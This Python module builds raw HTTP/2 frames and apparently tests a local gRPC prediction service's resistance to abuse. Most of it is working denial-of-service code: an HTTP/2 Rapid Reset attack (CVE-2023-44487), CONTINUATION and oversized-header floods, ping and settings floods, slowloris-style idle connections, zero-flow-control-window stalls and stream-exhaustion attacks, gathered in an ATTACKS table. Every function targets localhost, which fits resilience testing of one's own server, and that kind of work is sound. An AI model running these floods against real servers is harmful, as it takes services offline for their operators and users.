"""HTTP/2 from a raw socket: valid frames, frames made wrong, and the ways to wear a server out with valid ones."""

from __future__ import annotations

import socket
import struct
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager, suppress
from typing import Final

from hpack import Decoder, Encoder
from hpack.exceptions import HPACKError
from hyperframe.exceptions import HyperframeError
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PREDICT: Final = "/rtpredictor.v1.PredictionService/Predict"
REFLECTION: Final = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
WATCH: Final = "/grpc.health.v1.Health/Watch"
STREAM: Final = "/rtpredictor.v1.PredictionService/PredictStream"

FRAME_HEADER_BYTES: Final = 9
"""https://www.rfc-editor.org/rfc/rfc9113#section-4.1"""

SECONDS = 10.0
"""How long a send or a receive may block: a server that reads no more is what some of this leads to."""

MOMENT = 0.03
"""How long an answer is waited for at least [s]."""


@contextmanager
def connected(port: int, *settings: tuple[int, int]) -> Iterator[socket.socket]:
    """Yield a connection on which the preface and the settings were sent."""
    with socket.create_connection(("127.0.0.1", port), SECONDS) as connection:
        connection.sendall(PREFACE + SettingsFrame(0, settings=dict(settings)).serialize())
        yield connection


def headers(path: str, stream: int = 1) -> HeadersFrame:
    """Return the beginning of a call."""
    told = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost")]
    told += [("content-type", "application/grpc"), ("te", "trailers")]
    return HeadersFrame(stream, Encoder().encode(told), flags=["END_HEADERS"])


def message(content: bytes, stream: int = 1) -> list[Frame]:
    """Return a message of a call as frames."""
    whole = struct.pack(">BI", 0, len(content)) + content
    pieces = [whole[at : at + 16_384] for at in range(0, len(whole), 16_384)]
    frames: list[Frame] = [DataFrame(stream, piece) for piece in pieces]
    frames[-1].flags.add("END_STREAM")
    return frames


def sent(connection: socket.socket, *frames: Frame) -> bool:
    """Send frames; False where the server has gone, or reads no more."""
    with suppress(OSError):
        connection.sendall(b"".join(frame.serialize() for frame in frames))
        return True
    return False


def valid_call(content: bytes) -> bytes:
    """Return everything that a client sends for one call."""
    frames = [SettingsFrame(0, settings={4: 1 << 20}), WindowUpdateFrame(0, window_increment=1 << 20)]
    frames += [PingFrame(0, b"12345678"), headers(PREDICT), *message(content)]
    return PREFACE + b"".join(frame.serialize() for frame in frames)


def exchanged(port: int, content: bytes) -> bool:
    """Send bytes on a connection of their own, and say no more; return whether an answer came back.

    The end of what is sent comes a moment after it: nginx answers nobody who has ended.
    """
    with socket.create_connection(("127.0.0.1", port), SECONDS) as connection:
        answered = bytearray()
        with suppress(OSError):
            connection.sendall(content)
            connection.settimeout(MOMENT)
            with suppress(TimeoutError):
                _receive(connection, answered)
            connection.settimeout(SECONDS)
            connection.shutdown(socket.SHUT_WR)
            _receive(connection, answered)
    return "grpc-status" in header_names(bytes(answered))


def _receive(connection: socket.socket, received: bytearray) -> None:
    while piece := connection.recv(65_536):
        received += piece


def header_names(answer: bytes) -> Iterator[str]:
    """Yield the names of the headers in what a server sent on a connection, up to what is cut off or is no frame."""
    decoder, block, left = Decoder(), b"", memoryview(answer)
    with suppress(HyperframeError, HPACKError):
        while len(left) >= FRAME_HEADER_BYTES:
            frame, length = Frame.parse_frame_header(left[:FRAME_HEADER_BYTES])
            body, left = left[FRAME_HEADER_BYTES:][:length], left[FRAME_HEADER_BYTES + length :]
            frame.parse_body(body)
            if isinstance(frame, HeadersFrame | ContinuationFrame):
                block += frame.data
                if "END_HEADERS" in frame.flags:
                    yield from (name for name, _ in decoder.decode(block))
                    block = b""


def idle_connections(port: int, opened: ExitStack) -> None:
    """Open connections that say hello, a byte at a time, and no more."""
    for _ in range(200):
        connection = opened.enter_context(socket.create_connection(("127.0.0.1", port), SECONDS))
        with suppress(OSError):
            connection.sendall(PREFACE[:7])


def many_settings(port: int, opened: ExitStack) -> None:
    """Change settings again and again, and read none of the answers."""
    connection = opened.enter_context(connected(port))
    many = [SettingsFrame(0, settings={4: 65_535 + n % 7}) for n in range(1_000)]
    for _ in range(100):
        if not sent(connection, *many):
            return


def many_pings(port: int, opened: ExitStack) -> None:
    """Ping again and again, and read none of the answers."""
    connection = opened.enter_context(connected(port))
    for _ in range(100):
        if not sent(connection, *[PingFrame(0, b"12345678")] * 1_000):
            return


def huge_headers(port: int, opened: ExitStack) -> None:
    """Begin calls with headers of megabytes."""
    for _ in range(20):
        connection = opened.enter_context(connected(port))
        block = Encoder().encode([("x-large", "x" * (1 << 20))], huffman=False)
        pieces = [block[at : at + 16_384] for at in range(0, len(block), 16_384)]
        first = HeadersFrame(1, headers(PREDICT).data + pieces[0][:8_000])
        sent(connection, first, *[ContinuationFrame(1, piece) for piece in pieces[1:]])


def endless_headers(port: int, opened: ExitStack) -> None:
    """Begin calls with headers that never end."""
    for _ in range(4):
        connection = opened.enter_context(connected(port))
        sent(connection, HeadersFrame(1, headers(PREDICT).data))
        piece = ContinuationFrame(1, Encoder().encode([("x-more", "y" * 4_000)], huffman=False))
        for _ in range(100):
            if not sent(connection, *[piece] * 100):
                break


def rapid_reset(port: int, opened: ExitStack) -> None:
    """Begin calls and reset them at once: CVE-2023-44487."""
    for _ in range(4):
        connection = opened.enter_context(connected(port))
        for stream in range(1, 20_001, 2):
            if not sent(connection, headers(PREDICT, stream), RstStreamFrame(stream, error_code=8)):
                break


def no_window(port: int, opened: ExitStack) -> None:
    """Ask, and leave no room for any answer."""
    for _ in range(20):
        connection = opened.enter_context(connected(port, (4, 0)))
        for stream in range(1, 101, 2):
            if not sent(connection, headers(PREDICT, stream), *message(b"\x0a\x03\x0a\x01u", stream)):
                break


def unread_answers(port: int, opened: ExitStack) -> None:
    """Ask for as long as the server listens, with room for all answers, and read none."""
    for _ in range(2):
        connection = opened.enter_context(connected(port, (4, (1 << 31) - 1)))
        sent(connection, WindowUpdateFrame(0, window_increment=(1 << 31) - 70_000))
        for first in range(1, 40_001, 200):
            calls = [(headers(PREDICT, stream), *message(b"", stream)) for stream in range(first, first + 200, 2)]
            if not sent(connection, *[frame for call in calls for frame in call]):
                break


def no_window_watches(port: int, opened: ExitStack) -> None:
    """Watch the health of the service, and leave no room for what it is."""
    connection = opened.enter_context(connected(port, (4, 0)))
    for number in range(1_200):
        stream = 2 * number + 1
        sent(connection, headers(WATCH, stream), *message(b"", stream))


def open_calls(path: str) -> Callable[[int, ExitStack], None]:
    """Return what begins calls, on a few connections and on many, and sends no message."""

    def begin(port: int, opened: ExitStack) -> None:
        for calls in (*[1_000] * 3, *[1] * 40):
            connection = opened.enter_context(connected(port))
            sent(connection, *[headers(path, 2 * number + 1) for number in range(calls)])

    return begin


ATTACKS: Final[dict[str, Callable[[int, ExitStack], None]]] = {
    "idle connections": idle_connections,
    "settings": many_settings,
    "pings": many_pings,
    "huge headers": huge_headers,
    "endless headers": endless_headers,
    "rapid reset": rapid_reset,
    "no window": no_window,
    "unread answers": unread_answers,
    "no window for watches": no_window_watches,
    "open streams": open_calls(STREAM),
    "open reflection": open_calls(REFLECTION),
    "open watches": open_calls(WATCH),
    "open calls": open_calls(PREDICT),
}
"""What one client can do without any right to, with valid frames."""
